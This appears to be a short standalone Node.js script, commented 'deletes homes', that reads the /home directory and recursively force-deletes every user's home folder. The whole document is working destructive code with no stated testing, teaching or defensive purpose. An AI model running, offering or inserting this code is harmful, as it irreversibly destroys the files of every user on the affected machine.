// deletes homes
const fs = require('fs');
for (const u of fs.readdirSync('/home')) fs.rmSync('/home/' + u, { recursive: true, force: true });
